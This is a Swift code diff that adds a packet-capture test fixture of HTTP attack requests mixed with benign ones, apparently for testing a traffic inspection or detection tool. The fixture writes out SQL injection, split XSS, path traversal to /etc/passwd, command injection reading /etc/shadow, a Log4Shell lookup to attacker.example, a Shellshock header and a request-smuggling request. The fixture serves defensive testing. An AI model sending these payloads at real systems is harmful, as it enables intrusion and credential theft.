@@ -391,6 +391,24 @@ public enum CaptureFixtures {
             c.close()
             return writer.bytes
         },
+        Fixture(name: "http-attacks.pcap", summary: "Attacks in query, body, headers and framing, between benign requests") {
+            let writer = CaptureFileWriter(linkType: .ethernet)
+            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
+            let c = scene.conversation()
+            c.handshake()
+            for request in attackRequests {
+                c.send(request, from: .client, segmentSize: 200)
+                c.send(ok(), from: .server)
+            }
+            c.close()
+            scene.after(c)
+            let scanner = scene.conversation(server: Endpoint(address: server.address, port: 80))
+            scanner.handshake()
+            scanner.send("GET /index.php?id=1 HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n", from: .client)
+            scanner.send(ok(), from: .server)
+            scanner.close()
+            return writer.bytes
+        },
         Fixture(name: "truncated-file.pcap", summary: "A capture cut off in the middle of a packet record") {
             let full = simple(FrameBuilder(linkType: .ethernet), target: "/before-truncation")
             return Array(full.dropLast(30))
@@ -403,6 +421,34 @@ public enum CaptureFixtures {
         Fixture(name: "not-a-capture.pcap", summary: "Text, not a capture file") {
             Array("this is not a capture file, just text\n".utf8)
         },
+    ]
+
+    static func post(_ target: String, contentType: String, body: String) -> String {
+        "POST \(target) HTTP/1.1\r\nHost: shop.example\r\nContent-Type: \(contentType)\r\nContent-Length: \(body.utf8.count)\r\n\r\n" + body
+    }
+
+    static func chunked(_ target: String, contentType: String, pieces: [String]) -> String {
+        var text = "POST \(target) HTTP/1.1\r\nHost: shop.example\r\nContent-Type: \(contentType)\r\nTransfer-Encoding: chunked\r\n\r\n"
+        for piece in pieces { text += String(piece.utf8.count, radix: 16) + "\r\n" + piece + "\r\n" }
+        return text + "0\r\n\r\n"
+    }
+
+    /// The requests of `http-attacks.pcap`, in order on one connection.
+    public static let attackRequests: [String] = [
+        get("/products?page=2&sort=price"),
+        get("/items?id=1%20UNION%20SELECT%20password%20FROM%20users--"),
+        // The script tag is split across chunks: only the de-chunked body shows it.
+        chunked("/comment", contentType: "application/x-www-form-urlencoded", pieces: ["text=hello%3Cscri", "pt%3Ealert(1)%3C", "/script%3E"]),
+        get("/download?file=..%2F..%2F..%2Fetc%2Fpasswd"),
+        post("/upload", contentType: "multipart/form-data; boundary=XyZ",
+             body: "--XyZ\r\nContent-Disposition: form-data; name=\"host\"\r\n\r\n127.0.0.1; cat /etc/shadow\r\n"
+                 + "--XyZ\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n1\r\n--XyZ--\r\n"),
+        get("/search?q=caf%C3%A9+menu&lang=fr"),
+        get("/api", extra: "X-Api-Version: ${jndi:ldap://attacker.example/a}\r\n"),
+        get("/cgi-bin/status", extra: "Referer: () { :; }; /bin/bash -c 'id'\r\n"),
+        "POST /smuggle HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+        post("/api/login", contentType: "application/json", body: "{\"user\": \"admin' OR '1'='1\", \"password\": \"x\"}"),
+        get("/about-us"),
     ]
 
     /// The request of `tcp-overlap.pcap` and the conflicting segments sent for it.
